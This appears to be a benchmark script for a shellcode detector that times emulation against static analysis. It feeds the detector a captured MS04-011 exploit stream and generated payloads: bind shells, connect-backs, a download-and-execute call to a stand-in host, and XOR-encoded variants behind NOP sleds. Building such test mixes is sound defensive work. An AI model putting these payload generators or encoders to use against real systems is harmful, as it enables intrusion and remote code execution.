"""Payload analysis throughput: payloads analysed per second on one core, emulation vs static-only.

The mix (each payload analysed once per pass, several passes):
* the real MS04-011 exploit stream of the Honeynet Forensic Challenge 2010 #1 (if ../shared/data
  is present) - bind shell on 1957;
* the demo bots' kept payloads in ../demo/work/payloads (impacket-built exploit arguments:
  filler, sleds, random bytes - no real shellcode), if present;
* generated exploit arguments: hand-assembled bind, connect-back, download-exec and echo-ftp
  shellcode from tests/shellcode_vectors.py, plain and encoded (xor8, xor32, additive xor32),
  behind filler and a NOP sled, with varied keys and ports;
* random bytes (what a fuzzer or a broken client sends).

Hostile loops are not in the mix (each costs up to its limit; see docs/payloads.md). Run:
``.venv/bin/python bench/bench_payload.py [passes]``.
"""

from __future__ import annotations

import random
import sys
import time
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(REPO / "tests"))

import shellcode_vectors as v  # noqa: E402
from capture_helpers import tcp_payloads  # noqa: E402
from stormwatch.detect.shellcode import Limits, analyze  # noqa: E402


def payload_mix(rng: random.Random) -> list[tuple[str, bytes]]:
    out: list[tuple[str, bytes]] = []
    cap = REPO.parent / "shared" / "data" / "pcap" / "exploits" / "honeynet-fc2010-attack-trace-ms04-011.pcap"
    if cap.exists():
        out.append(("real-ms04-011", tcp_payloads(cap)[("98.114.205.102", 1828, "192.150.11.111", 445)]))
    demo = REPO.parent / "demo" / "work" / "payloads"
    if demo.is_dir():
        out += [("demo-bot", p.read_bytes()) for p in sorted(demo.glob("*/*"))[:20]]
    bodies = [
        lambda: v.bind_shell(rng.randrange(1024, 65535)),
        lambda: v.connect_back(f"10.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}",
                               rng.randrange(1024, 65535)),
        lambda: v.download_exec(f"http://192.0.2.{rng.randrange(1, 255)}/b{rng.randrange(99)}.exe", "a.exe"),
        lambda: v.win_exec(v.ECHO_FTP),
    ]
    encoders = [
        lambda b: b,
        lambda b: v.xor8_callpop(b, rng.randrange(1, 256)),
        lambda b: v.xor32_fnstenv(b, rng.randbytes(4)),
        lambda b: v.xor32_additive(b, rng.getrandbits(32)),
    ]
    for i in range(48):
        shellcode = encoders[i % 4](bodies[(i // 4) % 4]())
        out.append(("generated", v.exploit_argument(shellcode, sled=rng.randrange(16, 200))))
    out += [("random", rng.randbytes(rng.randrange(200, 2000))) for _ in range(12)]
    return out


def run(mix: list[tuple[str, bytes]], limits: Limits, passes: int) -> tuple[float, dict[str, int]]:
    stops: dict[str, int] = {}
    t0 = time.perf_counter()
    for _ in range(passes):
        for _, data in mix:
            r = analyze(data, limits=limits)
            stops[r.stop_reason] = stops.get(r.stop_reason, 0) + 1
    return (passes * len(mix)) / (time.perf_counter() - t0), stops


def main() -> None:
    passes = int(sys.argv[1]) if len(sys.argv) > 1 else 5
    mix = payload_mix(random.Random(2006))
    kinds: dict[str, int] = {}
    for k, _ in mix:
        kinds[k] = kinds.get(k, 0) + 1
    lim = Limits()
    print(f"mix: {len(mix)} payloads {kinds}, {passes} passes, one core")
    print(f"emulator limits: {lim.max_instructions} instructions, {lim.max_seconds} s, {lim.max_memory >> 20} MiB, "
          f"{lim.max_api_calls} API calls, {lim.max_code_writes} code writes, {lim.max_runs} runs per payload")
    analyze(mix[0][1])  # warm caches (fake DLL images, loader blobs)
    static_rate, _ = run(mix, Limits(emulate=False), passes)
    emu_rate, stops = run(mix, lim, passes)
    print(f"{'mode':<16}{'payloads/s':>12}{'ms/payload':>12}")
    print(f"{'static-only':<16}{static_rate:>12.0f}{1000 / static_rate:>12.2f}")
    print(f"{'emulation':<16}{emu_rate:>12.0f}{1000 / emu_rate:>12.2f}")
    print(f"emulation / static-only time ratio: {static_rate / emu_rate:.1f}x; target >= 200/s: "
          f"{'met' if emu_rate >= 200 else 'NOT met'}")
    print("stop reasons (emulation):", dict(sorted(stops.items())))
    for label in ("real-ms04-011", "generated", "demo-bot", "random"):
        sub = [m for m in mix if m[0] == label]
        if sub:
            rate, _ = run(sub, lim, passes)
            print(f"  {label:<14}{rate:>8.0f}/s")


if __name__ == "__main__":
    main()
